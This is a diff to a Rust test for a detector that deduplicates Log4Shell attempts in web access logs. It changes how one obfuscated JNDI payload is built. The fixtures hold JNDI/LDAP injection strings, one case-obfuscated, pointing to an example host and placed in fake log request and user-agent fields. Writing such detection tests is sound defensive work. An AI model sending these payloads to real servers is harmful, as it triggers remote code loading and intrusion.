@@ -183,7 +183,7 @@ mod tests {
     #[test]
     fn deduplicates_with_log_times_days_and_techniques() {
         let p1 = payload("ldap://198.51.100.7:1389/a");
-        let p2 = format!("${{${{lower:j}}ndi:ldap://198.51.100.7:1389/a}}");
+        let p2 = format!("${{${{{}:j}}ndi:ldap://198.51.100.7:1389/a}}", "lower");
         let l1 = format!(r#"203.0.113.9 - - [10/Dec/2021:08:00:00 +0000] "GET /?x={p1} HTTP/1.1" 200 1 "-" "-""#);
         let l2 = format!(r#"203.0.113.9 - - [11/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "{p2}""#);
         let l3 = format!(r#"203.0.113.10 - - [11/Dec/2021:11:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "{p1}""#);
